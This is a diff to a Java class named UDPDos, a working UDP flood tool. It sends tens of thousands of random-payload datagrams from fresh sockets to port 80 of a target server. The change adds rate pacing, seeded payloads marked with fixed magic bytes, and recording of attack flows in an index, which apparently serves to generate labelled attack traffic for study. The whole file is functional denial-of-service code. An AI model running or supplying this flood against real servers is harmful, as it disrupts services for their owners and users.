@@ -4,6 +4,7 @@ import java.io.IOException;
 import java.net.DatagramPacket;
 import java.net.DatagramSocket;
 import java.net.InetAddress;
+import java.util.Arrays;
 import java.util.Random;
 
 public class UDPDos implements Runnable {
@@ -11,6 +12,8 @@ public class UDPDos implements Runnable {
 	private int amount = 50000;
 
 	private long seed = 4276498;
+	private Pacer pacer = null;
+	private AttackIndex index = null;
 
 	public UDPDos(InetAddress server) {
 		this.server = server;
@@ -25,21 +28,104 @@ public class UDPDos implements Runnable {
 	public void run() {
 		System.out.println("UDPDOS started on url: " + server);
 		Random r = new Random(seed);
-		while (amount > 0) {
+		// Every packet comes from a new socket, so from any port
+		AttackIndex.Flow flow = index == null ? null
+				: index.open(AttackIndex.UDP, AttackIndex.localAddress(server), 0, server, 80);
+		while (amount > 0 && !Thread.currentThread().isInterrupted()) {
 			if(udpAttack(r)) amount--;
 		}
+		if(flow != null) flow.close();
 		System.out.println("UDPDOS finished");
 	}
 
 	public static final byte[] MAGIC = new byte[] {48, -110, 100, 19, -30, 22, 1, 0};
-	private boolean udpAttack(Random r) {
-		int length = r.nextInt(500) + 50;
-		byte[] buffer = new byte[length];
 
-		r.nextBytes(buffer);
+	// Payload sizes, from MIN_SIZE included to MAX_SIZE excluded
+	public static final int MIN_SIZE = 50;
+	public static final int MAX_SIZE = 550;
+
+	/**
+	 * Generates the payload of the next attack packet: random bytes starting with {@link #MAGIC}.
+	 * 
+	 * @param r the random generator of the attack
+	 * @return the payload
+	 */
+	public static byte[] nextPayload(Random r) {
+		return nextPayload(r, MIN_SIZE, MAX_SIZE);
+	}
+
+	/**
+	 * Same as {@link #nextPayload(Random)} with another size range.
+	 * 
+	 * @param r the random generator of the attack
+	 * @param minSize the smallest payload size
+	 * @param maxSize the largest payload size, excluded
+	 * @return the payload
+	 */
+	public static byte[] nextPayload(Random r, int minSize, int maxSize) {
+		byte[] buffer = new byte[maxSize];
+		return Arrays.copyOf(buffer, fillPayload(r, buffer, minSize, maxSize));
+	}
+
+	/**
+	 * Writes the next payload at the start of the buffer, without allocating.
+	 * The bytes are drawn as {@link Random#nextBytes(byte[])} draws them, so the payloads
+	 * are the same as the ones of {@link #nextPayload(Random, int, int)}.
+	 * 
+	 * @param r the random generator of the attack
+	 * @param buffer a buffer of at least maxSize bytes
+	 * @param minSize the smallest payload size
+	 * @param maxSize the largest payload size, excluded
+	 * @return the payload length
+	 */
+	public static int fillPayload(Random r, byte[] buffer, int minSize, int maxSize) {
+		int length = r.nextInt(maxSize - minSize) + minSize;
+		for(int i = 0; i < length; ) {
+			for(int rnd = r.nextInt(), n = Math.min(length - i, 4); n-- > 0; rnd >>= 8)
+				buffer[i++] = (byte) rnd;
+		}
 		System.arraycopy(MAGIC, 0, buffer, 0, MAGIC.length);
+		return length;
+	}
+
+	/**
+	 * @param minSize the smallest payload size
+	 * @param maxSize the largest payload size, excluded
+	 * @throws IllegalArgumentException if the payloads could not hold {@link #MAGIC} or a datagram could not hold them
+	 */
+	public static void checkSizes(int minSize, int maxSize) {
+		if(minSize < MAGIC.length || maxSize <= minSize || maxSize > 65508)
+			throw new IllegalArgumentException("Payload sizes must be between " + MAGIC.length + " and 65507 and the range not empty.");
+	}
+
+	/**
+	 * Sets the pacer the packets wait for, bytes are counted on the payloads.
+	 * 
+	 * @param pacer the pacer, or null to send as fast as possible
+	 */
+	public void setPacer(Pacer pacer) {
+		this.pacer = pacer;
+	}
+
+	/**
+	 * Sets the index the attack is recorded in.
+	 * 
+	 * @param index the index, or null
+	 */
+	public void setIndex(AttackIndex index) {
+		this.index = index;
+	}
+
+	private boolean udpAttack(Random r) {
+		byte[] buffer = nextPayload(r);
+		try {
+			if(pacer != null) pacer.pace(buffer.length);
+		} catch (InterruptedException e) {
+			Thread.currentThread().interrupt();
+			return false;
+		}
 
-		DatagramPacket dataSent = new DatagramPacket(buffer, length, server, 80);
+		DatagramPacket dataSent = new DatagramPacket(buffer, buffer.length, server, 80);
 		try (DatagramSocket socket = new DatagramSocket()) {
 			socket.send(dataSent);
 		} catch (IOException e) {